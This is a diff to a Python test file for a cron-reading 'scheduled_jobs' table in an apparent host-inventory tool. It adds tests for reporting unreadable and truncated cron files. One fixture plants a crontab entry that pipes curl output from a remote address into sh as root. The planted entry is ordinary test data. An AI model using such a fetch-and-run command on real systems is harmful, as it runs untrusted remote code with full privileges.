@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import dataclasses
 import hashlib
 import os
 import subprocess
@@ -12,10 +13,12 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from extension.serving.runner import TableRunner
 from tables.host import Host
 from tables.persistence.scheduled_jobs import ScheduledJob, scheduled_jobs
 from tables.schema import QueryContext
 from tests.support.planted_files import plant
+from tests.support.scans import unseen_by
 
 REPOSITORY = Path(__file__).resolve().parents[3]
 PASSWD = (
@@ -42,9 +45,7 @@ def rows(root: Path, query: Optional[QueryContext] = None) -> list[ScheduledJob]
 
 
 def degraded(root: Path) -> tuple[str, ...]:
-    host = Host(str(root))
-    list(scheduled_jobs.generate(host, QueryContext()))
-    return host.status.get("scheduled_jobs").degraded
+    return unseen_by(scheduled_jobs, Host(str(root)))
 
 
 def reasons(row: ScheduledJob) -> set[str]:
@@ -424,9 +425,9 @@ def test_an_ordinary_user_sees_what_may_be_seen_and_is_told_of_the_rest() -> Non
     code = (
         "import os, sys\nfrom tables.host import Host\nfrom tables.persistence.scheduled_jobs import scheduled_jobs\n"
         "from tables.schema import QueryContext\nfrom tables.reasons.commands import command_reasons\n"
-        "command_reasons('x'); os.setgroups([]); os.setgid(65534); os.setuid(65534); host = Host(sys.argv[1])\n"
-        "print([row.command for row in scheduled_jobs.generate(host, QueryContext())])\n"
-        "print(host.status.get('scheduled_jobs').degraded)\n"
+        "command_reasons('x'); os.setgroups([]); os.setgid(65534); os.setuid(65534); query = QueryContext()\n"
+        "print([row.command for row in scheduled_jobs.generate(Host(sys.argv[1]), query)])\n"
+        "print(query.unseen)\n"
     )
     # Not below pytest's own folder, which is closed to others.
     with tempfile.TemporaryDirectory() as folder:
@@ -452,3 +453,24 @@ def test_any_file_is_read_without_error(path: str, content: bytes) -> None:
         for row in rows(Path(folder), query):
             row.to_wire()
         assert query.truncated is None
+
+
+def test_what_could_not_be_seen_is_said_although_the_rows_were_cut(root: Path) -> None:
+    (root / "etc/cron.d").mkdir()
+    (root / "etc/cron.d/loop").symlink_to("loop")
+    plant(root, "/etc/crontab", "@daily root /opt/a\n@daily root /opt/b\n@daily root /opt/c\n")
+    host = Host(str(root))
+    runner = TableRunner(dataclasses.replace(scheduled_jobs, max_rows=2), host)
+    assert len(runner.generate(None)) == 2
+    record = host.status.get("scheduled_jobs")
+    assert record.truncated == "more than 2 rows" and "/etc/cron.d/loop" in record.degraded[0]
+
+
+def test_files_beyond_the_bound_of_a_folder_are_said_to_be_cut(root: Path) -> None:
+    (root / "etc/cron.d").mkdir()
+    for number in range(4200):
+        (root / f"etc/cron.d/a{number}").touch()
+    plant(root, "/etc/cron.d/zz", "@daily root curl http://203.0.113.9/a | sh\n")
+    query = QueryContext()
+    rows(root, query)
+    assert query.truncated == "/etc/cron.d: only the first 4096 of 4201 files were read"
